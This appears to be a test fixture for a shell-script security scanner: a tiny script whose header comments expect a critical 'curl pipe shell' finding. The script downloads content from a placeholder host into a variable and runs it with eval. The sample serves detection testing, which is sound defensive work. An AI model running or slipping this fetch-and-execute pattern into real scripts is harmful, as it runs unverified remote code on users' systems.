# expect: shell.curl_pipe_shell critical
# note: a download kept in a variable, then evaluated
# path: scripts/tp_download_var_eval.sh
#!/bin/sh
X=$(curl -fsSL https://get.example.net/i)
eval "$X"
